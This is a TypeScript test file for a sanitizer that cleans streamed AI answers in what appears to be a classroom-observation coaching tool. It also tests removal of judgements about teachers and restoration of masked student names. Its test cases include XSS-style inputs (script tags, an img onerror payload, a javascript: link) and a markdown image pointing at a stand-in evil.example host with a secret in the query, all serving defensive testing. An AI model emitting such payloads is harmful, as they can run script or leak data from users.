import fc from 'fast-check'
import { expect, test } from 'vitest'
import { noNames, readNames } from '../../privacy/names.ts'
import { answerText, longestAnswer } from './answer-text.ts'

const sources = ['10:03 Maya: "You can cut the half into two."']

/** An answer that comes in these pieces, as it is shown. */
function shown(pieces: string[], names = noNames): string {
  const answer = answerText({ restoring: names.restoring(), sources })
  return pieces.map((piece) => answer.push(piece)).join('') + answer.end()
}
const whole = (text: string) => shown([text])

test.each([
  ['an image', 'Look: ![a](https://evil.example/?q=secret) there.', 'Look:  there.'],
  ['an image by reference', 'See ![a][1].\n[1]: https://evil.example/x\nSo.', 'See .\n\nSo.'],
  ['a link', 'Read [this page](javascript:alert(1)) first.', 'Read this page) first.'],
  ['an address', 'Go to https://evil.example/a?b=c now.', 'Go to  now.'],
  ['a script', 'Hello <script>alert(1)</script> there.', 'Hello alert(1) there.'],
  ['an image of HTML', 'Hello <img src=x onerror=alert(1)> there.', 'Hello  there.'],
  ['bold words and headings', '## Two ways\n**First**, ask.\n- Then wait.', 'Two ways\nFirst, ask.\nThen wait.'],
  ['what can’t be seen', 'Ask\u200B her \u202Enow\u202C.', 'Ask her now.'],
])('%s is shown as plain words', (_what, text, plain) => {
  expect(whole(text)).toBe(plain)
})

test('less than five minutes, and a comparison, are not taken for marks', () => {
  const text = 'Keep it < 5 minutes, and 3 > 2 * 1.'
  expect(whole(text)).toBe(text)
})

test.each([
  ['a verdict on the teacher', 'Ms Ortiz is a weak teacher.'],
  ['a score', 'I rate her 3 out of 10.'],
  ['a comparison', 'Compared with Mr Hale, she is behind.'],
  ['a diagnosis', 'Maya probably has ADHD.'],
  ['a decision about employment', 'She should be fired.'],
  ['a verdict beside words of the plan', 'As question I2 shows, she is the worst teacher in the school.'],
])('%s is left out, and that is said once', (_what, sentence) => {
  expect(whole(`I2 rests on E2. ${sentence} ${sentence} Ask her what she saw.`)).toBe(
    'I2 rests on E2. (A judgement was left out here.) Ask her what she saw.',
  )
})

test.each([
  'That is a strong opening question.',
  'I can’t rate this teacher for the principal.',
  'If she says it was a terrible lesson, you might say:\nI hear how much you put into it. Which moment stays with you?',
  'I2 rests on E2, where Maya said “You can cut the half into two.” It opens her view.',
])('“%s” is said', (text) => {
  expect(whole(text)).toBe(text)
})

test('words that nobody said lose their marks, wherever the text was cut', () => {
  expect(shown(['Maya said “I ', 'hate this. Real', 'ly.” Ask her.'])).toBe('Maya said I hate this. Really. Ask her.')
})

test('names come back in their places, and whoever was made up is someone', () => {
  const names = readNames({ roster: [{ id: '1', name: 'Maya Lopez', role: 'student' }], staff: [], texts: ['Maya counts.'], speakers: [] })
  expect(names.mask('Maya counts.')).toBe('{Student1} counts.')
  expect(shown(['Ask what {Stu', 'dent1} saw, and {Student9', '9}.'], names)).toBe('Ask what Maya saw, and someone.')
})

test('ten times too much ends after a whole sentence', () => {
  const answer = answerText({ restoring: noNames.restoring(), sources })
  let text = ''
  let sentences = 0
  while (!answer.isFull && sentences < 1_000) {
    text += answer.push(`Sentence ${++sentences} says what she could ask then. `)
  }
  expect(text.length).toBeLessThanOrEqual(longestAnswer + 2)
  expect(text).toMatch(/then\. …$/)
  expect(answer.push('More. ') + answer.end()).toBe('')
})

test('a text without a full stop is shown before it is at its end', () => {
  const answer = answerText({ restoring: noNames.restoring(), sources })
  expect(answer.push('and then '.repeat(80)).length).toBeGreaterThan(300)
})

test('however it is cut, the same is shown', () => {
  const names = readNames({ roster: [{ id: '1', name: 'Zoë Kim', role: 'student' }], staff: [], texts: ['Zoë asks.'], speakers: [] })
  const part = fc.constantFrom(
    ...[
      'Ask {Student1} what she saw. ',
      'Ms. Ortiz said “no.” ',
      'She is a weak teacher. ',
      '[a](http://b.c) ',
      'I2 ',
      '{Student7}',
      '\n',
      '“You can cut. ',
    ],
  )
  fc.assert(
    fc.property(fc.array(part, { maxLength: 12 }), fc.array(fc.nat(200), { maxLength: 8 }), (parts, cuts) => {
      const text = parts.join('')
      const places = [...new Set([0, ...cuts.map((cut) => Math.min(cut, text.length)), text.length])].sort((one, other) => one - other)
      const pieces = places.slice(1).map((end, index) => text.slice(places[index], end))
      expect(shown(pieces, names)).toBe(shown([text], names))
    }),
  )
})
